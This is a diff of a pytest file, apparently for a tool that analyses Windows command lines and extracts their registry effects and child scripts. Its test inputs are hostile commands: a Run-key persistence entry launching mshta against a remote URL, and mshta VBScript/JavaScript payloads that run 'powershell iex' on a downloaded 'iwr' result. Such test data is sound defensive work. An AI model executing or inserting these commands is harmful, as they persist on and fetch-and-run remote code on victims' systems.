@@ -112,3 +112,15 @@ def test_a_registry_value_that_windows_starts():
     items = run(r'reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v upd /t REG_SZ /d "mshta http://files.example.test/a" /f')
     assert values(items, "effect.registry") == [r"HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Run\upd"]
     assert [i.data for i in items if isinstance(i, Child) and i.kind == "script.cmd"] == [b"mshta http://files.example.test/a"]
+
+
+@pytest.mark.parametrize(
+    ("code", "setting"),
+    [
+        ('VBScript:CreateObject("WScript.Shell").Run("powershell iex $env:xm",0)(window.close)', 'CreateObject("WScript.Shell").Environment("PROCESS")("xm")="iwr ""http://a"""'),
+        ("javascript:new ActiveXObject('WScript.Shell').Run('powershell iex $env:xm');close()", 'new ActiveXObject("WScript.Shell").Environment("PROCESS").Item("xm")="iwr \\"http://a\\""'),
+    ],
+)  # fmt: skip
+def test_a_page_has_the_environment_of_the_line_that_starts_it(code, setting):
+    items = run(f'cmd /c "set xm=iwr "http://a"&&mshta {code}"')
+    assert setting in next(i.data.decode() for i in items if isinstance(i, Child) and i.kind == "script.hta")
